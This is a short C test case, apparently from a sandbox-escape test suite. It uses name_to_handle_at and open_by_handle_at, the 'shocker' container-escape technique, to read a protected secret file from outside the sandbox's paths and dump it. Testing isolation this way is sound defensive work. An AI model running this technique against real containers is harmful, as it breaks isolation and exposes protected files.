#include "attack.h"
// A file by its handle, past every path; CVE class of Docker's early years (shocker). Root only.
ATTACK(.judge = "secret:file", .needs = "root") {
  struct { struct file_handle h; unsigned char bytes[128]; } h = {.h.handle_bytes = 128};
  int mount, here = open(arg("work"), O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, arg("secret"), &h.h, &mount, 0)) return note("name_to_handle_at");
  if (dump(open_by_handle_at(here, &h.h, O_RDONLY)) < 0) note("open_by_handle_at");
}
